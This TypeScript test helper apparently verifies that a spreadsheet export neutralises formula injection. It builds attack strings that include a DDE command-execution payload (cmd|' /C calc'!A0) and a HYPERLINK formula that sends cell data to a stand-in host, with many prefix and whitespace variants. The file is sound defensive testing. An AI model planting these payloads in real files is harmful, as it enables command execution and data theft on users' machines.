import PizZip from 'pizzip'
import { expect } from 'vitest'
import { unfused } from '../../src/platform/sheets/defuse.ts'
import { readGrids } from '../../src/platform/sheets/grid.ts'

const signs = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠']
const bodies = [`cmd|' /C calc'!A0`, 'HYPERLINK("http://x.example/?"&A1,"1")', '1+1']

/** Texts that a spreadsheet would run: thirty, and those that hide behind spaces, an apostrophe, a line's end or a separator. */
export const formulas: readonly string[] = [
  ...signs.flatMap((sign) => bodies.map((body) => sign + body)),
  ...[' ', '   ', '\u00a0', '\ufeff', "'", "''", '\n', " '"].map((before) => `${before}=1+1`),
  '",=1+1',
  ';=1+1',
]

/** What a spreadsheet takes for a formula when it opens a cell as text. */
const active = /^[\s']*[=+\-@＝＋－＠]/u
const dead = /^'/

/** Every text of the cells of a file that went out. A workbook must not hold a formula at all. */
export async function cellsOf(bytes: Uint8Array): Promise<string[]> {
  if (bytes[0] === 0x50) {
    for (const part of new PizZip(bytes).file(/^xl\/worksheets\/.*\.xml$/)) expect(part.asText()).not.toMatch(/<f[ >]/)
  }
  const grids = await readGrids(bytes)
  return grids.flatMap(({ rows }) => rows.flat()).filter((cell) => typeof cell === 'string')
}

/** No cell is active; answers the formulas that lie dead in the file, as they were typed. */
export async function deadFormulas(bytes: Uint8Array): Promise<ReadonlySet<string>> {
  const suspect = (await cellsOf(bytes)).filter((cell) => active.test(cell))
  expect(suspect.filter((cell) => !dead.test(cell))).toEqual([])
  return new Set(suspect.map(unfused))
}
